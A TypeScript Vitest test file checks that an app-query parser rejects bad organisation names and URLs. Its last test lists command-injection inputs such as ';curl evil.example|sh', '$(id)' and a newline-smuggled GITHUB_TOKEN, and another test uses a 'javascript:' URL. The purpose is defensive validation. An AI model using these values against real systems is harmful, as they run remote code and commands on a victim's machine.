import { expect, test } from 'vitest'
import { parseAppQuery } from './app-query'

const OWN = 'https://air.example.com'

test('an empty form asks for nothing yet and proposes our own address', () => {
  expect(parseAppQuery({}, OWN)).toEqual({
    organisation: '',
    url: OWN,
    with: [],
    isPublic: false,
    problem: null,
    request: null,
  })
})

test('what was chosen makes the request', () => {
  const query = { organisation: ' octo-org ', url: '', with: ['checks', 'nonsense', 'issues'], public: 'on' }
  expect(parseAppQuery(query, OWN).request).toEqual({
    organisation: 'octo-org',
    url: OWN,
    with: ['checks', 'issues'],
    isPublic: true,
  })
  expect(parseAppQuery({ organisation: 'octo', with: 'signals' }, OWN).request?.with).toEqual(['signals'])
})

test.each(['a b', '-octo', 'octo--org', '../settings', 'x'.repeat(40), 'octo/../../x', 'octo?x=1'])(
  'no organisation is called %j',
  (organisation) => {
    expect(parseAppQuery({ organisation }, OWN)).toMatchObject({ problem: expect.any(String), request: null })
  },
)

test.each(['javascript:alert(1)', 'air.example.com', 'https://air.example.com/?x=1', 'https://air.example.com/#x'])(
  '%j is not where people reach Airworthy',
  (url) => {
    expect(parseAppQuery({ organisation: 'octo', url }, OWN)).toMatchObject({
      problem: expect.any(String),
      request: null,
    })
  },
)

test.each([
  'https://air.example.com/;curl evil.example|sh',
  'https://air.example.com/$(id)',
  'https://air.example.com/`id`',
  'https://air.example.com/\nGITHUB_TOKEN=x',
  "https://air.example.com/'x",
  'https://air.example.com/&x',
  'https://github.com@air.example.com',
])('%j, which somebody may copy into a shell from a link that another made, shows no command', (url) => {
  expect(parseAppQuery({ organisation: 'octo', url }, OWN)).toMatchObject({
    problem: expect.any(String),
    request: null,
  })
})
